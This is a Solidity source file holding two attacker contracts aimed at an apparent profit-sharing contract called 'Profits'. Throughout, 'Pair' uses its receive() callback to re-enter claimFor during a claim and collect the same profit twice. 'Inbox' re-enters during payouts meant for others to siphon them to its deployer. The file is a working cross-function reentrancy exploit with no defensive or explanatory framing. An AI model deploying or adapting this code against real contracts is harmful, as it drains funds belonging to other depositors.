interface Profits {
    function subscribe(uint256 shares) external payable;
    function claim(address payable to) external;
    function claimFor(address payable holder) external;
}

/// Has its profit paid by the other function while it is being paid.
contract Pair {
    Profits private immutable paper;
    bool private waits;

    constructor(Profits where) {
        paper = where;
    }

    function buy(uint256 shares) external payable {
        paper.subscribe{value: msg.value}(shares);
    }

    function turn() external {
        waits = true;
        paper.claim(payable(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (!waits) return;
        waits = false;
        paper.claimFor(payable(address(this)));
    }
}

/// Is paid a profit that is somebody else's, and has that one paid by the other function meanwhile.
contract Inbox {
    Profits private immutable paper;
    address payable private immutable holder = payable(msg.sender);

    constructor(Profits where) {
        paper = where;
    }

    function empty() external {
        holder.transfer(address(this).balance);
    }

    receive() external payable {
        paper.claimFor(holder);
    }
}
